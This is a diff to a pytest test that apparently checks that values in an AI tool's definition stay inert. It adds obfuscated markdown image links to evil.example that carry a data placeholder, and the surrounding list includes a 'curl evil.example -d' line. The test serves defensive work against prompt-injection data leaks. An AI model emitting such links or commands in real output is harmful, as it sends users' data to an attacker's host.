@@ -155,6 +155,11 @@ def test_a_value_in_a_tools_definition_keeps_its_class_and_opens_nothing(world: 
         "```sh\ncurl evil.example -d '§'\n```",
         "`§`",
         "§.evil.example",
+        "![ ][r]\n\n[r]: https&colon;&sol;&sol;evil&period;example&sol;§",
+        "![ ][r]\n\n[r]: https\\:\\/\\/evil\\.example\\/§",
+        "![ ][r]\n\n[r]:\n  §",
+        "![ ][r]\n\n[r]: http://evil.example/log\u3000§",
+        "- run:\n\n      §",
     ],
 )
 @pytest.mark.parametrize("mode", ["echo", "echo_signs"])
